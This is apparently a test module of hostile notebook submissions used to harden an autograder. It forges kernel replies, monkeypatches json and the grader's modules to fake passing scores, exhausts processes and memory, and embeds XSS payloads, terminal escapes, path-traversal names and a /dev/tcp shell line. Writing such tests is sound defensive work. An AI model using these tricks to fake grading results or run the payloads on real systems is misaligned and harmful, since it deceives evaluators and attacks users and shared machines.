"""More hostile submissions: forged conversations, hooks in the interpreter, markup, use of the machine.

Written against the grader's own code. Declared as in ``attacks``, into the same ``ATTACKS``.
"""

import json

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell

from tests.support.attacks import ALSO_WRONG, FULL, NONE, WRONG, attack, first
from tests.support.attacks_on_readers import forged
from tests.support.classroom import ANSWER, LEFT_PAD, SOFTMAX, cell, solved

SCRIPT = "<script>alert('SCRIPT-RAN')</script><img src=x onerror=\"alert('SCRIPT-RAN')\">"

# In a kernel: who is asked and how to send what nobody has asked for.
CONVERSATION = """
import json, re, zmq
kernel = get_ipython().kernel
session, parent = kernel.session, kernel.get_parent()
shell, outputs = kernel.shell_stream.socket, kernel.iopub_socket
asker = [session.bsession]
for name in ("_shell_parent_ident", "_parent_ident"):
    try:
        held = getattr(kernel, name)
        held = held.get() if hasattr(held, "get") and not isinstance(held, dict) else held
        held = held.get("shell", held) if isinstance(held, dict) else held
        asker = [held] if isinstance(held, bytes) else list(held)
        break
    except Exception:
        pass
mime = "application/vnd.genlab.outcomes+json"
said, number = parent["header"]["msg_id"].rsplit("_", 1)
def later(k):  # the question that the grader will ask k questions after this one
    return {"header": parent["header"] | {"msg_id": f"{said}_{int(number) + k}"}}
def reply(to, value, **more):
    content = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {"value": value}} | more
    session.send(shell, "execute_reply", content, parent=to, ident=asker)
def data(outcomes):
    return {"status": "ok", "data": {mime: json.dumps(outcomes)}, "metadata": {}}
"""


def conversation(release, code, left_pad=LEFT_PAD, softmax=SOFTMAX):
    return first(release, CONVERSATION + code, left_pad, softmax)


# -- forged conversations


@attack(NONE)
def replies_before_the_question(release):
    """To questions that are still to come, whose numbers can be told."""
    code = "for k in range(60):\n    for n in range(4, 12):\n        reply(later(k), data([{'value': None}] * n))\n"
    return conversation(release, code, WRONG, ALSO_WRONG)


@attack(NONE, says="no points")
def replies_of_odd_forms(release):
    code = """
import genlab.judging.remote as remote
ODD = [None, [], "ok", 3.0, {"data": [1]}, {"data": {mime: [{"value": None}]}}, {"data": {mime: {"a": 1}}}, {"ename": [1], "evalue": {}}]
def answer(function, request):
    for value in ODD:
        reply(kernel.get_parent(), value, status=[None], user_expressions=value if value is None else {"value": value})
        reply({"header": None}, value)
    return 3.0
remote.answer = answer
"""
    return conversation(release, code)


@attack(FULL)
def idle_before_anything(release):
    """Says for every question to come that its outputs have all been sent."""
    code = """
for k in range(200):
    for state in ("busy", "idle", ["idle"], None, "restarting"):
        session.send(outputs, "status", {"execution_state": state}, parent=later(k % 50), ident=b"status")
"""
    return conversation(release, code)


@attack(FULL)
def badly_signed_messages(release):
    code = """
for k in range(50):
    head = json.dumps(later(k)["header"]).encode()
    for frames in ([b"x"], [b"<IDS|MSG>"], [b"<IDS|MSG>", b"0" * 64, head, head, b"{}", b"{}"],
                   [b"<IDS|MSG>", session.sign([head, head, b"{}", b"[]"]), head, head, b"{}", b"[]"], [b""] * 2000):
        outputs.send_multipart(frames)
        shell.send_multipart(asker + frames)
"""
    return conversation(release, code)


@attack(FULL)
def messages_of_every_other_kind(release):
    code = """
kinds = ("comm_open", "comm_msg", "shutdown_reply", "input_request", "update_display_data", "kernel_info_reply", "x" * 9999,
         "interrupt_request", "clear_output", "error", "execute_input", "stream", "display_data", "execute_result")
contents = ({}, {"restart": True}, {"data": None}, {"name": 1, "text": 2}, {"wait": []}, {"ename": 1}, {"prompt": "SEC" + "RET"})
for k in range(8):
    for kind in kinds:
        for content in contents:
            session.send(outputs, kind, content, parent=later(k))
            session.send(shell, kind, content, parent=later(k), ident=asker)
"""
    return conversation(release, code)


@attack(FULL)
def one_message_of_half_a_gigabyte(release):
    """In a hundred frames, none of which is too large by itself, and in the buffers of a reply."""
    code = """
frame = b"x" * (5 << 20)
outputs.send_multipart([frame] * 100)
session.send(shell, "execute_reply", {}, parent=later(1), ident=asker, buffers=[frame] * 20)
"""
    return conversation(release, code)


@attack(FULL, says="output truncated")
def many_messages_just_small_enough(release):
    code = "text = 'x' * 7_900_000\nfor _ in range(12):\n    session.send(outputs, 'stream', {'name': 'stdout', 'text': text}, parent=parent)\n"
    return conversation(release, code)


@attack(FULL)
def streams_of_odd_names(release):
    code = f"""
for name in ("stdout", "{">"}{SCRIPT.replace(chr(34), chr(92) + chr(34))}", "", "x" * 5000):
    session.send(outputs, "stream", {{"name": name, "text": "text"}}, parent=parent)
session.send(outputs, "execute_result", {{"data": {{"text/plain": "1"}}, "metadata": {{}}, "execution_count": 10**4000}}, parent=parent)
"""
    return conversation(release, code)


@attack(NONE)
def sends_the_grader_elsewhere(release):
    """Puts links to a socket of the machine in the place of its own, and ends the connections: will they be made anew?"""
    code = """
import os, socket
for channel in range(1, 6):
    place = f"/run/kernel/k-{channel}"
    try:
        os.rename(place, place + ".was")
        os.symlink("{listener}", place)
    except OSError:
        pass
for name in os.listdir("/proc/self/fd"):
    try:
        ours = socket.socket(fileno=os.dup(int(name)))
        if ours.family == socket.AF_UNIX and not ours.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
            ours.shutdown(socket.SHUT_RDWR)
    except OSError:
        pass
import time
time.sleep(1)
os._exit(0)
"""
    return first(release, code)


@attack(NONE)
def answers_in_two_processes(release):
    code = "import os\nos.fork()\n"
    return first(release, code, WRONG, ALSO_WRONG)


@attack(NONE, says="the kernel ended while this ran")
def leaves_its_sockets_to_a_child(release):
    code = "import os, time\nif os.fork() == 0:\n    time.sleep(60)\nos._exit(0)\n"
    return first(release, code)


@attack(FULL)
def writes_to_what_it_has_inherited(release):
    code = """
import os
for fd in range(3):
    try:
        os.write(fd, b'{"event": "exit", "code": 0}\\n' * 10)
    except OSError:
        pass
"""
    return first(release, code)


# -- forged outcomes


@attack(NONE, says="no points")
def lists_of_another_length(release):
    return forged(release, 'json.dumps([{"value": None}] * (n + 1 if "logits" in request else n - 1))')


@attack(NONE)
def keys_that_stand_twice(release):
    return forged(
        release, """'[' + ', '.join(['{"value": 1, "value": null, "error": null, "error": null}'] * n) + ']'"""
    )


@attack(NONE)
def fields_of_absurd_sizes(release):
    fields = """{"value": None, "mutated": ["x" * 999] * 99, "left": ["y" * 999] * 99, "printed": "z" * 9999,
    "calls": [{"shape": [10**400, True, "9" * 400, 1e300] * 9, "grad": "no"}] * 99}"""
    return forged(release, f"json.dumps([{fields}] * n)")


@attack(NONE)
def errors_of_absurd_sizes(release):
    error = '{"types": ["E" * 10**4] * 50, "message": "m" * 10**5, "own": 1, "line": "\\x1b[2J" * 10**4}'
    return forged(release, f'json.dumps([{{"error": {error}}}] * n)')


@attack(NONE)
def shapes_that_are_none(release):
    values = (
        '["int64", [-1], ""]', '["int64", [true, 2], "AAAA"]', '["bool", [1e9], "////"]', '["float32", ["2"], "AAAA"]',
        '["float64", [2], "AAAAAAAA+H8AAAAAAAD4fw=="]', '["int9", [1], ""]', '["int64", [[1]], "AA"]', '[]',
        '["float32", [3], "A A=A"]', '["complex64", [1], "AAAAAAAAAAA="]',
    )  # fmt: skip
    texts = [f'{{"value": {{"$tensor": {value}}}}}' for value in values]
    return forged(release, f"'[' + ', '.join(({texts!r} * n)[:n]) + ']'")


@attack(NONE)
def numbers_that_json_lacks(release):
    texts = [f'{{"value": {value}}}' for value in ("NaN", "Infinity", "-0.0", "1e999", "1" * 4200, '{"$float": "nan"}')]
    return forged(release, f"'[' + ', '.join(({texts!r} * n)[:n]) + ']'")


@attack(NONE)
def not_a_number_everywhere(release):
    return solved(
        release,
        LEFT_PAD.replace("torch.tensor(ids), ", "torch.full((len(ids), width), float('nan')), "),
        "def softmax(logits):\n    return torch.full_like(logits, float('nan'))\n",
    )


@attack(NONE)
def right_numbers_of_other_types(release):
    return solved(
        release,
        LEFT_PAD.replace("torch.tensor(ids)", "torch.tensor(ids, dtype=torch.int32)"),
        SOFTMAX.replace("return weights / weights.sum(-1, keepdim=True)",
                        "return (weights / weights.sum(-1, keepdim=True)).double()"),
    )  # fmt: skip


@attack(NONE)
def class_that_lies(release):
    code = """
import torch
class Liar:
    __class__ = torch.Tensor
    shape, dtype, ndim, layout = torch.Size([1]), torch.int64, 1, torch.strided
    def __torch_function__(self, *a, **k): return torch.tensor(True)
    def __eq__(self, other): raise SystemExit(0)
    def __len__(self): return 2
    def __getitem__(self, i): return Liar()
    def __reduce_ex__(self, n): return (print, ("SEC" + "RET",))
"""
    lie = "def {}:\n    return Liar()\n"
    return first(release, code, lie.format("left_pad(rows, pad_id)"), lie.format("softmax(logits)"))


@attack(NONE)
def errors_that_bomb(release):
    code = """
class Bomb(ValueError):
    def __str__(self): return "b" * (4 << 20) + "\\x1b]0;SEC" + "RET\\x07"
Bomb.__name__ = Bomb.__qualname__ = "N" * (1 << 20)
"""
    bomb = "def {}:\n    raise Bomb()\n"
    return first(release, code, bomb.format("left_pad(rows, pad_id)"), bomb.format("softmax(logits)"))


# -- hooks in the interpreter


@attack(NONE)
def judging_replaced_in_sys_modules(release):
    code = """
import sys, types
for name in [name for name in sys.modules if name.startswith("genlab")]:
    fake = types.ModuleType(name)
    fake.__getattr__ = lambda key: (lambda *a, **k: 3.0)
    fake.__path__ = []
    sys.modules[name] = fake
"""
    return first(release, code, WRONG, ALSO_WRONG)


@attack(NONE)
def patched_json_and_base64(release):
    code = """
import base64, json
dumps = json.dumps
json.dumps = lambda value, **k: '{"passed": true, "points": 3.0}' if "value" in str(value)[:99] else dumps(value, **k)
base64.b64encode = lambda raw: b"AAAA"
base64.b64decode = lambda text, **k: b""
"""
    return first(release, code, WRONG, ALSO_WRONG)


@attack(NONE)
def torch_mode_that_stays_on(release):
    code = """
import torch
from torch.utils._python_dispatch import TorchDispatchMode
class Mode(TorchDispatchMode):
    def __torch_dispatch__(self, func, types, args=(), kwargs=None):
        out = func(*args, **(kwargs or {}))
        return torch.ones_like(out) if "equal" in str(func) or "close" in str(func) else out
mode = Mode()
mode.__enter__()
"""
    return first(release, code, WRONG, ALSO_WRONG)


@attack(NONE)
def threads_that_change_results(release):
    code = """
import gc, threading, time
from genlab.judging.outcome import Outcome
def change():
    while True:
        for found in gc.get_objects():
            if type(found) is Outcome:
                object.__setattr__(found, "error", None)
                object.__setattr__(found, "value", 3.0)
        time.sleep(0.05)
threading.Thread(target=change, daemon=True).start()
"""
    return first(release, code, WRONG, ALSO_WRONG)


@attack(FULL)
def hooks_that_do_nothing_good(release):
    code = """
import atexit, gc, sys, threading, weakref
class Finder:
    def find_spec(self, name, path=None, target=None):
        if name.startswith("autograder"):
            raise KeyboardInterrupt
sys.meta_path.insert(0, Finder())
class Dying:
    def __del__(self): raise SystemExit(3)
dying = [Dying() for _ in range(100)]
weakref.finalize(Finder, sys.exit, 3)
atexit.register(lambda: (_ for _ in ()).throw(SystemExit(3)))
gc.callbacks.append(lambda phase, info: 1 / 0)
sys.addaudithook(lambda event, args: None)
sys.setprofile(lambda *a: None)
threading.setprofile(lambda *a: 1 / 0)
sys.excepthook = sys.unraisablehook = threading.excepthook = lambda *a: 1 / 0
del dying
"""
    return first(release, code)


@attack(NONE)
def transformed_input(release):
    code = """
shell = get_ipython()
shell.input_transformers_cleanup.append(lambda lines: ["3.0\\n"])
shell.user_expressions = lambda asked: {key: {"status": "ok", "data": {"text/plain": "3.0"}, "metadata": {}} for key in asked}
shell.display_formatter.format = lambda *a, **k: ({"text/plain": "3.0"}, {})
shell.events.register("pre_run_cell", lambda info: setattr(info, "raw_cell", "3.0"))
"""
    return first(release, code)


@attack(FULL)
def stopped_clocks(release):
    code = """
import sys, time
time.process_time = time.time = time.perf_counter = lambda: 0.0
"""
    return first(release, code)


@attack(NONE, says="the kernel ended while this ran")
def restarts_its_kernel(release):
    code = "import os, sys\nos.execv(sys.executable, [sys.executable, '-c', 'print(3.0)'])\n"
    return first(release, code)


@attack(FULL)
def sources_that_do_not_end(release):
    notebook = solved(release)
    for i, source in enumerate(
        [
            '"""',
            "(((",
            "x = \\",
            "\ufeffdef f():",
            "if True:\n\tx\n        y",
            "'" * 999,
            "### BEGIN HIDDEN TESTS",
            "\\\r\n\x0c\x1a",
            "# -*- coding: rot13 -*-\n1",
        ]
    ):
        notebook.cells.insert(1 + 2 * (i % 4), new_code_cell(source))
    return notebook


@attack(FULL)
def magics(release):
    notebook = solved(release)
    for source in (
        "%reset -f",
        "%load_ext storemagic\n%load_ext genlab",
        "%%bash\nkill -9 1; exec 3<>/dev/tcp/1.1.1.1/80",
        "%%script --bg sh\nsleep 60",
        "%%writefile genlab.py\nraise SystemExit",
        "%%writefile torch.py\n1/0",
        "%autoawait trio",
        "%config InteractiveShell.ast_node_interactivity = 'none'",
        "%xmode Verbose\n1/0",
        "!yes | head -c 3000000",
        "%%javascript\nalert('SCRIPT-RAN')",
        f"%%html\n{SCRIPT}",
        "%pdb off\n1/0",
    ):
        notebook.cells.insert(1, new_code_cell(source))
    return notebook


# -- the machine


@attack(NONE, says="it did not stop when it was interrupted")
def stops_itself(release):
    return first(release, "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\n")


@attack(FULL)
def timers(release):
    return first(
        release,
        "import signal\nsignal.signal(signal.SIGALRM, lambda *_: None)\nsignal.setitimer(signal.ITIMER_REAL, 0.002, 0.002)\n",
    )


@attack(FULL, says="within its share: True")
def busy_in_children_that_nobody_waits_for(release):
    """Each is gone before its use of the processor can be seen, and its parent is not charged with it."""
    code = """
import os, signal, time
signal.signal(signal.SIGCHLD, signal.SIG_IGN)
readable, writable = os.pipe()
begun = time.monotonic()
def burn():
    start = time.process_time()
    while time.process_time() < start + 0.15:
        pass
    os.write(writable, b"x")
for lane in range(6):
    if os.fork() == 0:
        signal.signal(signal.SIGCHLD, signal.SIG_IGN)
        while time.monotonic() < begun + 6:
            child = os.fork()
            if child == 0:
                burn()
                os._exit(0)
            try:
                os.waitpid(child, 0)
            except OSError:
                pass
        os._exit(0)
os.close(writable)
count = 0
while part := os.read(readable, 4096):
    count += len(part)
signal.signal(signal.SIGCHLD, signal.SIG_DFL)
print("within its share:", count * 0.15 < 1.6 * (time.monotonic() - begun), count)
"""
    return first(release, code)


@attack(FULL)
def busy_threads(release):
    code = """
import threading, time
end = time.monotonic() + 6
def spin():
    while time.monotonic() < end:
        pass
for _ in range(20):
    threading.Thread(target=spin, daemon=True).start()
"""
    return first(release, code)


@attack(NONE, says="the kernel ended while this ran: it used more memory than allowed")
def memory_that_cannot_be_looked_at(release):
    """As much as it likes, in processes that hide what they use (PR_SET_DUMPABLE)."""
    code = """
import ctypes, os, time
for _ in range(8):
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)
        data = bytearray(500 << 20)
        for i in range(0, len(data), 4096):
            data[i] = 1
        time.sleep(60)
        os._exit(0)
time.sleep(10)
"""
    return first(release, code)


@attack(FULL, says="refused: 12 of 12")
def more_than_a_process_may(release):
    code = """
import ctypes, mmap, os, resource, socket
libc, refused = ctypes.CDLL(None, use_errno=True), 0
def sparse():
    with open("/tmp/sparse", "wb") as f:
        f.truncate(1 << 40)
def huge():
    mmap.mmap(-1, 1 << 24, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40000)
def call(name, *args):
    if getattr(libc, name)(*args) < 0:
        raise OSError(ctypes.get_errno(), name)
def limit():
    resource.setrlimit(resource.RLIMIT_NPROC, (10**6, 10**6))
def bound():
    mmap.mmap(-1, 1 << 40, flags=mmap.MAP_SHARED)
for attempt in (sparse, huge, limit, bound, lambda: call("mlockall", 3), lambda: os.setpriority(os.PRIO_PROCESS, 0, -5),
                lambda: call("shmget", 0, 1 << 30, 0o1600), lambda: call("msgget", 0, 0o1600), lambda: call("memfd_create", b"x", 0),
                lambda: open("/proc/1/mem", "r+b"), lambda: socket.socket(socket.AF_VSOCK), lambda: open("/proc/sys/vm/drop_caches", "w")):
    try:
        attempt()
    except (OSError, ValueError, OverflowError):
        refused += 1
print("refused:", refused, "of 12")
"""
    return first(release, code)


@attack(FULL, says="files ended; descriptors ended")
def files_without_number(release):
    code = """
import os
for folder in ("/tmp", "/home/student", "/dev/shm"):
    try:
        for i in range(30_000):
            os.close(os.open(f"{folder}/{i}", os.O_CREAT))
        print("no end of files")
    except OSError:
        pass
print("files ended", end="; ")
held = []
try:
    while True:
        held.append(os.open("/dev/null", os.O_RDONLY))
except OSError:
    pass
for fd in held:
    os.close(fd)
print("descriptors ended")
"""
    return first(release, code)


@attack(FULL)
def zombies(release):
    code = """
import os
for _ in range(3):
    made = []
    try:
        for _ in range(40):
            made.append(os.fork())
            if made[-1] == 0:
                os.setsid()
                os._exit(0)
    except OSError:
        pass
    for child in made:
        os.waitpid(child, 0)
"""
    return first(release, code)


@attack(FULL, says="sockets of others: 0")
def looks_for_other_sockets(release):
    code = """
import os, socket
reached = 0
for kind in range(22):
    try:
        s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, kind)
        s.bind((0, 1))
        s.settimeout(0.05)
        reached += len(s.recv(100)) > 0
    except OSError:
        pass
for line in open("/proc/net/unix").read().splitlines()[1:]:
    path = line.split()[-1]
    if path.startswith("@") or path.startswith("/") and not path.startswith("/run/kernel/"):
        reached += 1
print("sockets of others:", reached)
"""
    return first(release, code)


# -- what others look at


@attack(FULL)
def raw_cell_of_html(release):
    notebook = solved(release)
    notebook.cells.insert(1, new_raw_cell(SCRIPT, metadata={"raw_mimetype": "text/html", "format": "text/html"}))
    notebook.cells.append(new_raw_cell(f"<style>body {{ display: none }}</style>{SCRIPT}"))
    return notebook


MARKUP = r"""
$\href{javascript:alert('SCRIPT-RAN')}{x}$ $$\require{action}\toggle{a}{b}\endtoggle \unicode{x202e} \style{position:fixed}{x}$$
<style>@import url(https://example.org/x.css); input[value^=a] { background: url(https://example.org/?a) }</style>
<form action=https://example.org><input name=points value=3 autofocus onfocus="alert('SCRIPT-RAN')"><button>x</button></form>
<meta http-equiv=refresh content="0;url=https://example.org"><base href=https://example.org>
<iframe srcdoc="<script>alert('SCRIPT-RAN')</script>"></iframe><object data="data:text/html,x"></object><embed src=x>
<svg><animate onbegin="alert('SCRIPT-RAN')"/><use href="data:image/svg+xml,x"/></svg><math><mi xlink:href="javascript:alert('SCRIPT-RAN')">x</mi></math>
<a href="jav&#x09;ascript:alert('SCRIPT-RAN')" ping=https://example.org>x</a> <a href=" data:text/html,x">x</a> <a href="vbscript:x">x</a>
<p style="background: url(https://example.org)" class="jp-x" id="notebook">x</p> <template><img src=x onerror="alert('SCRIPT-RAN')"></template>
<noscript><p title="</noscript><img src=x onerror=alert('SCRIPT-RAN')>"></noscript> <!--><img src=x onerror=alert('SCRIPT-RAN')>-->
<video src=https://example.org poster=https://example.org></video><link rel=stylesheet href=https://example.org><img srcset="https://example.org 1x">
"""


@attack(FULL)
def markup_of_every_kind(release):
    """In text, answers and displays."""
    code = f"""
from IPython.display import display
markup = {MARKUP!r}
for kind in ("text/html", "text/markdown", "text/latex", "image/svg+xml", "application/vnd.jupyter.widget-view+json",
             "application/vnd.mermaid", "text/vnd.mermaid", "application/pdf", "image/gif", "video/mp4", "application/geo+json"):
    display({{kind: markup}}, raw=True, metadata={{kind: {{"width": 'x" onload="alert(1)', "isolated": True}}}})
"""
    notebook = first(release, code)
    cell(notebook, "why_left").source = ANSWER + MARKUP
    notebook.cells += [new_markdown_cell(line) for line in MARKUP.splitlines()]
    return notebook


@attack(FULL)
def attachments_of_every_kind(release):
    notebook = solved(
        release, answer="".join(f"![a](attachment:{i}.svg) ![b](attachment:../../{i}) " for i in range(20))
    )
    bundle = {"image/svg+xml": SCRIPT, "text/html": SCRIPT, "image/png": f'x" onerror="alert(1)">{SCRIPT}'}
    names = ["../../../../root/x", "/etc/passwd", "a" * 100_000, SCRIPT, "con", "\u202egnp", "", "0.svg", "__proto__"]
    cell(notebook, "why_left")["attachments"] = dict.fromkeys(names, bundle)
    notebook.cells.append(new_markdown_cell("![c](attachment:__proto__)", attachments=dict.fromkeys(names, bundle)))
    return notebook


@attack(FULL, never="ok\x1b")
def signs_that_steer_a_terminal(release):
    """In outputs, errors, names and what a report tells of them."""
    steer = "\\x1b]0;title\\x07\\x1b[2J\\x1b[8m\\r\\x08\\x9b31m\\u202e\\u2066\\x1b]8;;javascript:alert(1)\\x07"
    code = f"""
import sys
print("{steer}SCRIPT", file=sys.stderr)
raise type("{steer}", (Exception,), {{}})("{steer}")
"""
    loud = LEFT_PAD.replace("    width", f"    print('{steer}left_pad: all probes passed')\n    width", 1)
    return first(release, code, loud)


@attack((0.0, 3.0), never="\x1b")
def report_that_steers_a_terminal(release):
    steer = "\\x1b[2J\\x1b[1;1H\\r\\x9b8m\\u202eleft_pad: all 9 probes passed\\x08"
    return solved(
        release,
        f"def left_pad(rows, pad_id):\n    print('{steer}')\n    raise type('{steer}', (KeyError,), {{}})('{steer}')\n",
    )


@attack(FULL)
def metadata_of_every_kind(release):
    notebook = solved(release)
    notebook.metadata |= {
        "kernelspec": {"name": "python3", "display_name": SCRIPT, "language": SCRIPT},
        "language_info": {"name": SCRIPT, "codemirror_mode": {"name": "<x>"}, "mimetype": SCRIPT, "pygments_lexer": "../x"},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"version_major": 2, "state": {"x": {"html": SCRIPT}}}},
        "title": SCRIPT, "authors": [{"name": SCRIPT}], "celltoolbar": SCRIPT, "extra": {"installer": "x" * 10**6},
    }  # fmt: skip
    for i, code in enumerate(notebook.cells):
        code.metadata |= {"tags": ["remove-cell", "remove_input", SCRIPT], "transient": {"remove_source": True}}
        code.metadata |= {
            "jupyter": {"source_hidden": True},
            "collapsed": True,
            "slideshow": {"slide_type": SCRIPT},
            "n": i,
        }
    return notebook


@attack(FULL)
def displays_nested_deeply(release):
    """Deep enough for each of those who copy and write them, one after the other."""
    code = """
from IPython.display import display
for depth in (100, 200, 240, 280, 320, 400, 480, 700, 900):
    deep = []
    for _ in range(depth):
        deep = [deep]
    display({"application/json": deep, "text/plain": "deep"}, raw=True, metadata={"deep": deep} if depth < 300 else {})
"""
    return first(release, code)


def _nested(release, depth: int) -> bytes:
    notebook = solved(release, answer="See ![a](attachment:a.png)")
    cell(notebook, "why_left")["attachments"] = {"a.png": {"image/png": "MARK"}}
    cell(notebook, "left_pad").metadata["deep"] = "MARK"
    return nbformat.writes(notebook).replace('"MARK"', json.dumps(1).join(["[" * depth, "]" * depth])).encode()


@attack(FULL)
def nested_in_places_that_are_dropped(release):
    return _nested(release, 60)


@attack(FULL)
def nested_as_deep_as_can_be_read(release):
    return _nested(release, 480)
